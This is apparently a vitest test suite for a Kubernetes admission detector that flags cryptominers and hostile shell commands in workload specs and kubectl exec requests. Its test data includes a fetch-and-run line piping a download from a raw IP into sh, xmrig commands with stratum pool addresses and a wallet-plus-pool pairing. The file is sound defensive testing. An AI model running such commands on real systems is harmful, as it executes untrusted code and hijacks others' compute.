import fc from 'fast-check';
import { Value } from 'typebox/value';
import { beforeAll, describe, expect, test } from 'vitest';
import { Finding } from '../../api/finding.ts';
import type { Indicators } from '../../detection/indicators.ts';
import { judgeExecRequest, judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { RULES } from '../../detection/rules.ts';
import { XMR } from '../corpus/wallets.ts';

let indicators: Indicators;
beforeAll(async () => {
  indicators = await loadIndicators();
});
const judge = (object: unknown) => judgeObject(object, { indicators });
const pod = (...containers: unknown[]) => ({ kind: 'Pod', metadata: { name: 'p' }, spec: { containers } });
const shell = (script: string) => judge(pod({ name: 'a', image: 'alpine', command: ['sh', '-c', script] }));

describe('paths', () => {
  test('lead to the argument', () => {
    const { findings } = judge(
      pod({ name: 'x', image: 'x' }, { name: 'a', image: 'a', args: ['-o', 'stratum+tcp://p:1'] }),
    );
    expect(findings[0]).toMatchObject({ rule: 'stratum-url', path: 'spec.containers[1].args[1]' });
  });

  test('lead to the place in a template, in a variable, in a file', () => {
    const container = { name: 'a', image: 'a', env: [{ name: 'X', value: 'stratum+tcp://p:1' }] };
    const deployment = { kind: 'Deployment', spec: { template: { spec: { containers: [container] } } } };
    expect(judge(deployment).findings[0]?.path).toBe('spec.template.spec.containers[0].env[0].value');
    const map = { kind: 'ConfigMap', data: { 'run.sh': '#!/bin/sh\nxmrig' } };
    expect(judge(map).findings[0]?.path).toBe('data["run.sh"]');
  });
});

describe('verdicts', () => {
  test('posture alone allows and says nothing', () => {
    const spec = {
      hostPID: true,
      hostNetwork: true,
      tolerations: [{ operator: 'Exists' }],
      volumes: [{ hostPath: { path: '/' } }],
    };
    const container = { name: 'a', image: 'a', securityContext: { privileged: true } };
    expect(
      judge({ kind: 'DaemonSet', spec: { template: { spec: { ...spec, containers: [container] } } } }),
    ).toEqual({
      verdict: 'allow',
      score: 0,
      findings: [],
    });
  });

  test('an installer from the net warns; from an address, hidden, it denies', () => {
    expect(shell('curl -fsSL https://get.example.org | sh').verdict).toBe('warn');
    expect(shell('curl -s http://185.1.2.3/x | sh').verdict).toBe('deny');
  });

  test('a wallet is a mention until a pool stands beside it', () => {
    const env = (more: object[]) => [{ name: 'WALLET', value: XMR }, ...more];
    expect(judge(pod({ name: 'a', image: 'a', env: env([]) })).verdict).toBe('allow');
    expect(
      judge(pod({ name: 'a', image: 'a', env: env([{ name: 'POOL', value: 'a.example:3333' }]) })).verdict,
    ).toBe('deny');
  });

  test('findings are sorted, strongest first, and fit the published shape', () => {
    const { findings } = judge(
      pod({ name: 'a', image: 'metal3d/xmrig', args: ['-o', 'a.example:3333', '-u', XMR] }),
    );
    expect(findings.map(({ score }) => score)).toEqual(
      findings.map(({ score }) => score).toSorted((a, b) => b - a),
    );
    for (const finding of findings) {
      expect(Value.Check(Finding, finding)).toBe(true);
      expect(Object.keys(RULES)).toContain(finding.rule);
    }
  });

  test('evidence shows the match and not the secret beside it', () => {
    const env = [{ name: 'DATABASE', value: 'postgres://user:hunter2@db/x' }];
    const args = ['-o', 'stratum+tcp://p:1', '--api-token', 'hunter2'];
    expect(JSON.stringify(judge(pod({ name: 'a', image: 'a', args, env })))).not.toContain('hunter2');
  });
});

describe('kinds of Kubernetes itself', () => {
  const [miner, harmless] = [
    { name: 'a', image: 'metal3d/xmrig' },
    { name: 'b', image: 'nginx' },
  ];
  const pod = { metadata: { name: 'p' }, spec: { initContainers: [miner], containers: [harmless] } };
  test.each([
    [{ apiVersion: 'v1', kind: 'Pod', ...pod }, ''],
    [{ apiVersion: 'v1', kind: 'PodTemplate', template: pod }, 'template.'],
    [{ apiVersion: 'apps/v1', kind: 'DaemonSet', spec: { template: pod } }, 'spec.template.'],
    [
      { apiVersion: 'batch/v1', kind: 'CronJob', spec: { jobTemplate: { spec: { template: pod } } } },
      'spec.jobTemplate.spec.template.',
    ],
  ])('$kind: the pod spec is found', (object, at) => {
    expect(judge(object).findings[0]?.path).toBe(`${at}spec.initContainers[0].image`);
    expect(judge({ ...object, apiVersion: 'example.com/v1' })).toEqual(judge(object));
  });

  test('what an init container writes is known when a container starts it, in whatever order they stand', () => {
    const write = 'echo "xmrig -o pool.example.org:3333" > /work/run.sh';
    const spec = {
      containers: [{ name: 'b', image: 'alpine', command: ['sh', '/work/run.sh'] }],
      initContainers: [{ name: 'a', image: 'alpine', command: ['sh', '-c', write] }],
    };
    const { findings } = judge({ apiVersion: 'v1', kind: 'Pod', spec });
    expect(findings).toContainEqual(expect.objectContaining({ rule: 'miner-name' }));
  });

  test('what an init container copies is known by another name', () => {
    const spec = {
      initContainers: [{ name: 'a', image: 'busybox', command: ['cp', '/bin/sh', '/work/tool'] }],
      containers: [
        { name: 'b', image: 'alpine', command: ['/work/tool', '-c', 'xmrig -o pool.example.org:3333'] },
      ],
    };
    const { findings } = judge({ apiVersion: 'v1', kind: 'Pod', spec });
    expect(findings).toContainEqual(expect.objectContaining({ rule: 'miner-name' }));
  });

  test('a volume made of the image of a miner', () => {
    const volumes = [{ name: 'tools', image: { reference: 'docker.io/metal3d/xmrig:latest' } }];
    for (const apiVersion of ['v1', 'example.com/v1']) {
      const { verdict, findings } = judge({
        apiVersion,
        kind: 'Pod',
        spec: { containers: [harmless], volumes },
      });
      expect(verdict).toBe('deny');
      expect(findings[0]?.path).toBe('spec.volumes[0].image.reference');
    }
  });

  test('a kind named like a property of every object', () => {
    for (const kind of ['constructor', '__proto__', 'toString']) judge({ apiVersion: kind, kind, ...pod });
  });
});

describe('malformed objects', () => {
  const miner = { image: 'metal3d/xmrig', name: 'a' };
  test.each([
    ['containers as a map', { spec: { containers: { a: miner } } }],
    ['one container without a list', { spec: { containers: miner } }],
    ['args as a string', { spec: { containers: [{ name: 'a', image: 'a', args: '-o stratum+tcp://p:1' }] } }],
    ['command as a string', { spec: { containers: [{ name: 'a', image: 'a', command: 'xmrig -o x' }] } }],
    [
      'args as a map',
      { spec: { containers: [{ name: 'a', image: 'a', args: { x: 'stratum+tcp://p:1' } }] } },
    ],
    ['a list in args', { spec: { containers: [{ name: 'a', image: 'a', args: [['stratum+tcp://p:1']] }] } }],
    ['env as a map', { spec: { containers: [{ name: 'a', image: 'a', env: { X: 'stratum+tcp://p:1' } }] } }],
    ['a pod in a list in a list', { spec: [[{ containers: [miner] }]] }],
  ])('%s is denied all the same', (_, object) => {
    expect(judge({ kind: 'Pod', ...object }).verdict).toBe('deny');
    expect(judge({ kind: 'Pod', apiVersion: 'v1', ...object }).verdict).toBe('deny');
  });

  test.each([
    { spec: { containers: null } },
    { spec: { containers: [null] } },
    { spec: { containers: [7] } },
    { spec: 7 },
  ])('%j does not throw', (object) => {
    judge({ kind: 'Pod', ...object });
    judge({ kind: 'Pod', apiVersion: 'v1', ...object });
  });

  test('null among the containers is reported', () => {
    expect(judge({ kind: 'Pod', spec: { containers: [null] } }).findings[0]?.rule).toBe('malformed-workload');
  });

  test('what is too deep is reported', () => {
    let object: object = { containers: [miner] };
    for (let depth = 0; depth < 60; depth++) object = { x: object };
    expect(judge(object).findings[0]?.rule).toBe('analysis-limit');
  });

  test('no JSON makes it throw, and every finding fits the published shape', () => {
    const key = fc.constantFrom(
      'kind',
      'spec',
      'containers',
      'args',
      'command',
      'env',
      'image',
      'name',
      'value',
      'template',
      'script',
      'data',
      'metadata',
      'lifecycle',
      'postStart',
      'exec',
      'valueFrom',
      'fieldRef',
      'tolerations',
      'resources',
    );
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom('ConfigMap', 'Secret', 'sh', '-c', 'xmrig', 'a|b', '$(', '`', '<<E', XMR),
    );
    const { tree } = fc.letrec((tie) => ({
      tree: fc.oneof(
        { maxDepth: 7 },
        text,
        fc.constant(null),
        fc.integer(),
        fc.array(tie('tree'), { maxLength: 4 }),
        fc.dictionary(key, tie('tree'), { maxKeys: 6 }),
      ),
    }));
    fc.assert(
      fc.property(tree, (value) => {
        for (const object of [value, { apiVersion: 'v1', kind: 'Pod', spec: value }]) {
          for (const finding of judge(object).findings) expect(Value.Check(Finding, finding)).toBe(true);
        }
      }),
      { numRuns: 1000 },
    );
  });
});

describe('shell', () => {
  test('no script makes it throw', () => {
    const piece = fc.constantFrom(
      '$(',
      ')',
      '`',
      '"',
      "'",
      '<<E\n',
      'E\n',
      '${',
      '}',
      '|',
      '&',
      ';',
      'curl http://1.2.3.4/',
      ' sh ',
      'eval ',
      'echo ',
      'base64 -d',
      '$A',
      'A=',
      '\\',
      '\n',
      'for i in ',
      'do ',
      'done',
      'f() {',
      '((',
      '))',
      '>',
      '<(',
      'xmrig',
      '\0',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => void shell(pieces.join(''))),
      { numRuns: 1000 },
    );
  });

  test.each([
    ['nested substitutions', '$('.repeat(8000)],
    ['open quotes', '"'.repeat(16_001)],
    ['doubling variables', 'a=$a$a;'.repeat(2000)],
    ['open here-documents', '<<A '.repeat(4000)],
    ['many commands', 'a;'.repeat(60_000)],
    ['a long line', `echo ${'a'.repeat(500_000)}`],
    ['recursion', 'f() { f; f; }; f'],
    [
      'scripts in scripts',
      Array.from({ length: 12 }).reduce((script: string) => `eval ${JSON.stringify(script)}`, 'xmrig'),
    ],
  ])('%s end in time', (_, script) => {
    const before = process.cpuUsage();
    shell(script);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(1000);
  });

  test('what exceeds the bounds is reported', () => {
    expect(shell('a=b; echo "$a" | tee x\n'.repeat(20_000)).findings[0]?.rule).toBe('analysis-limit');
  });
});

describe('kubectl exec', () => {
  const exec = (...command: string[]) => judgeExecRequest({ command }, { indicators });
  test('judges the command by its words', () => {
    expect(exec('sh', '-c', 'curl -s http://185.1.2.3/x | sh').verdict).toBe('deny');
    expect(exec('/tmp/xmrig', '-c', '/c.json').findings[0]).toMatchObject({
      rule: 'miner-name',
      path: 'command[0]',
    });
    expect(exec('sh', '-c', 'clear; (bash || ash || sh)').verdict).toBe('allow');
    expect(exec().verdict).toBe('allow');
  });
});
